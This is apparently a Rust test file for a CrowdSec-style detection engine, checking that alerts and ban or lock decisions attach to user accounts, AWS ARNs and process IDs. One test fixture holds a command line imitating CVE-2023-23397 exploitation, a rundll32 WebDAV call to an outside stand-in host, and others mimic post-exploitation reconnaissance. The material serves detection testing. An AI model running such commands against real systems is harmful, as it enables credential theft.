//! Scenarios whose scope is not an address (`scope.type` with `scope.expression`): the alert's
//! source is the expression's value under that scope, and profiles decide on it.

use std::sync::Arc;

use super::*;
use crate::event::{Event, StrMap};
use crate::expr::functions::{Functions, HelperContext};
use crate::profile::Profiles;

fn hub_set(name: &str) -> Arc<ScenarioSet> {
    let path =
        crate::testdata::shared(&format!("crowdsec/hub/scenarios/crowdsecurity/{name}.yaml"));
    let opts = ScenarioLoadOptions {
        data_dir: crate::testdata::shared("crowdsec/data"),
        ..Default::default()
    };
    Arc::new(ScenarioSet::load(&[ScenarioFile::new(path)], &opts).unwrap())
}

fn text_set(yaml: &str) -> Arc<ScenarioSet> {
    let cfg: ScenarioConfig = serde_saphyr::from_str(yaml).unwrap();
    let f = Arc::new(Functions::crowdsec(HelperContext::default()));
    Arc::new(ScenarioSet::from_configs(vec![(ScenarioFile::new("t.yaml"), cfg)], &f).unwrap())
}

fn evt(meta: &[(&str, &str)], parsed: &[(&str, &str)], ms: i64) -> Event {
    let t = Stamp {
        nanos: 1_700_000_000_000_000_000 + ms * 1_000_000,
        offset: 0,
    };
    Event {
        meta: meta.iter().copied().collect::<StrMap>(),
        parsed: parsed.iter().copied().collect::<StrMap>(),
        marshaled_time: t.marshal(),
        ..Event::default()
    }
}

/// Every overflow of `events` (pour errors fail the test).
fn overflows(set: &Arc<ScenarioSet>, events: &[Event]) -> Vec<RuntimeAlert> {
    let mut d = Detector::new(set.clone());
    let mut out = Vec::new();
    for e in events {
        let o = d.process(e);
        assert!(o.errors.is_empty(), "{:?}", o.errors);
        out.extend(o.signals.iter().filter_map(|s| s.alert().cloned()));
    }
    out
}

fn source(scope: &str, value: &str) -> Source {
    Source {
        scope: scope.into(),
        value: value.into(),
        ..Source::default()
    }
}

const USER_PROFILES: &str = r#"
name: default_ip_remediation
filters:
 - Alert.Remediation == true && Alert.GetScope() == "Ip"
decisions:
 - type: ban
   duration: 4h
on_success: break
---
name: accounts
filters:
 - Alert.GetScope() in ["user_account", "AwsARN", "pid"]
decisions:
 - type: lock
   duration: 1h
on_success: break
"#;

fn profiles() -> Profiles {
    Profiles::parse(
        USER_PROFILES,
        "profiles.yaml",
        Arc::new(Functions::crowdsec(HelperContext::default())),
    )
    .unwrap()
}

#[test]
fn cve_2023_23397_alerts_on_the_user_account() {
    let set = hub_set("CVE-2023-23397");
    let e = evt(
        &[("service", "sysmon")],
        &[
            ("EventID", "1"),
            ("ParentImage", r"C:\Windows\System32\svchost.exe"),
            ("Image", r"C:\Windows\System32\rundll32.exe"),
            (
                "CommandLine",
                r"rundll32 C:\windows\system32\davclnt.dll,DavSetCookie https://203.0.113.5/x",
            ),
            ("User", r"CORP\alice"),
        ],
        0,
    );
    let out = overflows(&set, &[e]);
    assert_eq!(out.len(), 1);
    let a = out[0].alert().unwrap();
    // No address at all: the source is the account, under the scenario's scope.
    assert_eq!(a.source, source("user_account", r"CORP\alice"));
    assert_eq!(
        out[0].sources.keys().collect::<Vec<_>>(),
        vec![r"CORP\alice"]
    );
    assert!(
        a.message.starts_with(
            r"user_account CORP\alice performed 'crowdsecurity/CVE-2023-23397' (1 events over 0s) at "
        ),
        "{}",
        a.message
    );
    // The default profile only bans addresses; a profile on the scope decides on the account.
    let d = profiles().decide(a);
    assert_eq!(d.len(), 1);
    assert_eq!(
        (d[0].kind.as_str(), d[0].scope.as_str(), d[0].value.as_str()),
        ("lock", "user_account", r"CORP\alice")
    );
}

#[test]
fn aws_cloudtrail_postexploit_alerts_on_the_arn_of_each_event() {
    let set = hub_set("aws-cloudtrail-postexploit");
    let call = |name: &str, arn: &str, ms| {
        evt(
            &[
                ("log_type", "aws-cloudtrail"),
                ("source_ip", "198.51.100.7"),
                ("event_name", name),
                ("user_arn", arn),
            ],
            &[],
            ms,
        )
    };
    let bob = "arn:aws:iam::123456789012:user/bob";
    let out = overflows(
        &set,
        &[
            call("ListBuckets", bob, 0),
            call("GetCallerIdentity", bob, 1),
            call("DescribeInstances", bob, 2),
        ],
    );
    assert_eq!(out.len(), 1);
    let a = out[0].alert().unwrap();
    assert_eq!(a.source, source("AwsARN", bob));
    assert!(out[0].reprocess);
    assert!(!a.remediation);
    assert_eq!(profiles().decide(a)[0].scope, "AwsARN");

    // Two accounts behind one address: one source each, one alert per source.
    let eve = "arn:aws:iam::123456789012:user/eve";
    let out = overflows(
        &set,
        &[
            call("ListBuckets", bob, 0),
            call("GetCallerIdentity", eve, 1),
            call("DescribeInstances", bob, 2),
        ],
    );
    assert_eq!(out.len(), 1);
    let values: Vec<&str> = out[0]
        .api_alerts
        .iter()
        .map(|a| a.source.value.as_str())
        .collect();
    assert_eq!(values, vec![bob, eve]);
    assert!(
        out[0].api_alerts[0]
            .message
            .starts_with("AwsARN 2 sources performed")
    );
}

#[test]
fn auditd_postexploit_alerts_on_the_parent_pid() {
    let set = hub_set("auditd-postexploit-pkill");
    let exec = |ms| {
        evt(
            &[
                ("log_type", "execve"),
                ("exe", "/usr/bin/pgrep"),
                ("ppid", "26843"),
            ],
            &[],
            ms,
        )
    };
    let out = overflows(&set, &(0..6).map(exec).collect::<Vec<_>>());
    assert_eq!(out.len(), 1);
    let a = out[0].alert().unwrap();
    assert_eq!(a.source, source("pid", "26843"));
    assert_eq!(a.events_count, 6);
    let d = profiles().decide(a);
    assert_eq!((d[0].scope.as_str(), d[0].value.as_str()), ("pid", "26843"));
}

#[test]
fn scope_values_follow_go_conversions() {
    // A scope expression that is not a string gives an empty value, as Go's type assertion.
    let set = text_set(
        "type: trigger\nname: t/n\ndescription: d\nfilter: 'true'\nscope:\n  type: count\n  expression: len(evt.Meta.user)\n",
    );
    let out = overflows(&set, &[evt(&[("user", "bob")], &[], 0)]);
    assert_eq!(out[0].alert().unwrap().source, source("count", ""));

    // A Range scope takes its expression's value over the event's range.
    let set = text_set(
        "type: trigger\nname: t/r\ndescription: d\nfilter: 'true'\nscope:\n  type: Range\n  expression: evt.Meta.net\n",
    );
    let e = evt(
        &[
            ("source_ip", "192.0.2.9"),
            ("SourceRange", "192.0.2.0/24"),
            ("net", "192.0.0.0/16"),
        ],
        &[],
        0,
    );
    let a = overflows(&set, &[e]).remove(0).alert().unwrap().clone();
    assert_eq!(
        (
            a.source.scope.as_str(),
            a.source.value.as_str(),
            a.source.ip.as_str()
        ),
        ("Range", "192.0.0.0/16", "192.0.2.9")
    );
    assert_eq!(a.source.range, "192.0.2.0/24");

    // A custom scope needs its expression; Ip refuses one.
    let f = Arc::new(Functions::crowdsec(HelperContext::default()));
    for (yaml, why) in [
        ("scope:\n  type: user\n", "filter is mandatory"),
        (
            "scope:\n  type: Ip\n  expression: evt.Meta.x\n",
            "not allowed",
        ),
    ] {
        let cfg: ScenarioConfig = serde_saphyr::from_str(&format!(
            "type: trigger\nname: t/x\ndescription: d\nfilter: 'true'\n{yaml}"
        ))
        .unwrap();
        let err = ScenarioSet::from_configs(vec![(ScenarioFile::new("t.yaml"), cfg)], &f)
            .unwrap_err()
            .to_string();
        assert!(err.contains(why), "{err}");
    }
}
